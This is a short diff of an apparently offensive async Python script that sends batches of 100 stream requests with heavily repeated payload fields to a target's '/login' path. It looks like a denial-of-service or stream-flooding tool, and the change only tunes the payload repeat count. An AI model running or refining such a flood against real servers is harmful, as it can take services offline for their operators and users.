@@ -38,7 +38,7 @@ async def waiting(target, count):
         ended = asyncio.ensure_future(until_ended(reader, 3600))
         try:
             for first in range(1, LAST_STREAM, 200):
-                await send(writer, b"".join(get_stream(first + 2 * n, "/login", field + again * 450) for n in range(100)))
+                await send(writer, b"".join(get_stream(first + 2 * n, "/login", field + again * 360) for n in range(100)))
                 await asyncio.wait([ended], timeout=1)
                 if ended.done():
                     return
